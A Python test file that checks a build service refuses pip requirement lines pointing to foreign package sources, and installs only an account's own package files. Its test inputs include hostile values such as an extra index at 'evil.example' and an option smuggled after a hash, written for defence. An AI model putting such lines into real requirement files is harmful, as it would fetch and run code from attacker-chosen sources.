"""Package sources are the operator's: requirement lines that pick an index, a URL or a path
fail the build naming the line, with both builders, through the API and a real worker."""

from __future__ import annotations

import httpx
import pytest

from tests import packages
from tests.workers.stack import ECHO_SCORE, Account, Stack

pytestmark = pytest.mark.postgres_only


@pytest.mark.parametrize("builder", ["oci", "docker"])
def test_requirement_lines_that_choose_where_packages_come_from_fail_naming_the_line(
    stack: Stack, builder: str
) -> None:
    account, elsewhere = Account(stack), Account(stack)
    score_url = account.upload("score.py", ECHO_SCORE.encode())
    # Another account's file, and one on the internet: never the account's own.
    foreign_url = elsewhere.upload("pyspark-3.5.9.tar.gz", b"a hostile build backend")
    cases = [
        (f"six==1.16.0\npyspark @ {foreign_url}\n", "pip requirements line 2 (pyspark @ …): direct references"),
        ("pyspark @ https://example.com/pyspark-3.5.9.tar.gz?sig=x\n", "line 1 (pyspark @ …): direct references"),
        ("--index-url http://127.0.0.1:9/simple\nsix\n", "pip requirements line 1 (--index-url)"),
        (
            "six\n--extra-index-url=https://evil.example/simple\n",
            "line 2 (--extra-index-url=https://evil.example/simple)",
        ),
        ("-f /tmp/wheels\nsix\n", "line 1 (-f)"),
        ("git+https://example.com/pkg.git\n", "line 1 (git+https://example.com/pkg.git): not a requirement"),
        # An option after a requirement (uv honours it): only --hash may follow one.
        (
            f"six==1.16.0 --hash=sha256:{'a' * 64} --extra-index-url http://127.0.0.1:9/simple\n",
            "line 1 (six==1.16.0 --hash=sha256:",
        ),
    ]
    for number, (requirements, fragment) in enumerate(cases):
        manifest = {
            "name": f"sources-{number}",
            "driverProgram": "score.py",
            "modelIds": [],
            "assets": [{"id": "score.py", "url": score_url}],
            # Not one of the account's assets, so the API cannot read it at creation
            # (it refuses those there): the worker must refuse it.
            "targetRuntime": {
                "runtimeType": "Python",
                "properties": {"pipRequirements": elsewhere.upload("requirements.txt", requirements.encode())},
            },
        }
        manifest_id = account.call("POST", f"{account.url}/manifests", json=manifest).json()["id"]
        image = account.wait(account.build(manifest_id, f"sources-{number}", builder)["Id"], seconds=120)
        message = image["Error"]["message"] if image.get("Error") else ""
        assert image["CreationState"] == "Failed", (requirements, account.log(image)[-2000:])
        assert fragment in message, message
        assert "sig=" not in message and "sig=" not in account.log(image)
        assert "installing" not in account.log(image)  # refused before any package was fetched


def _wheel(name: str, module: str) -> bytes:
    """A pure-Python wheel whose module says ``module``."""
    return packages.wheel(name, {f"{name}/__init__.py": module})


def _sdist(name: str, module: str) -> bytes:
    """A setuptools sdist whose module says ``module``."""
    return packages.sdist(
        f"{name}-1.0",
        {
            "pyproject.toml": '[build-system]\nrequires = ["setuptools>=70.1"]\n'
            'build-backend = "setuptools.build_meta"\n'
            f'[project]\nname = "{name}"\nversion = "1.0"\n',
            f"{name}/__init__.py": module,
        },
    )


USES_PACKAGE = "import ownpkg\n\ndef init():\n    pass\n\ndef run(raw_data):\n    return {'origin': ownpkg.ORIGIN}\n"


@pytest.mark.parametrize(("builder", "kind"), [("oci", "wheel"), ("docker", "wheel"), ("oci", "sdist")])
def test_an_accounts_own_package_file_is_installed_and_another_accounts_is_refused(
    stack: Stack, builder: str, kind: str
) -> None:
    owner, other = Account(stack), Account(stack)
    if kind == "wheel":
        package_url = owner.upload("ownpkg-1.0-py3-none-any.whl", _wheel("ownpkg", "ORIGIN = 'own wheel'\n"))
    else:
        package_url = owner.upload("ownpkg-1.0.tar.gz", _sdist("ownpkg", "ORIGIN = 'own sdist'\n"))

    def manifest_body(account: Account) -> dict:
        return {
            "name": "own-package",
            "driverProgram": "score.py",
            "modelIds": [],
            "assets": [{"id": "score.py", "url": account.upload("score.py", USES_PACKAGE.encode())}],
            "targetRuntime": {
                "runtimeType": "Python",
                "properties": {
                    "pipRequirements": account.upload("requirements.txt", f"ownpkg @ {package_url}\n".encode())
                },
            },
        }

    def manifest(account: Account) -> str:
        return account.call("POST", f"{account.url}/manifests", json=manifest_body(account)).json()["id"]

    image = owner.wait(owner.build(manifest(owner), "own-package", builder)["Id"])
    log = owner.log(image)
    assert image["CreationState"] == "Succeeded", log[-3000:]
    assert "smoke test passed" in log and "sig=" not in log
    if kind == "sdist":
        assert "building its wheel contained" in log

    # Another account naming the owner's package file: refused when its manifest is made
    # (the worker refuses it too, when the requirements are not the account's to read here).
    refused = httpx.post(f"{other.url}/manifests", json=manifest_body(other), headers=stack.headers, timeout=60)
    assert refused.status_code == 400
    assert "only to this account's own assets" in refused.json()["message"]
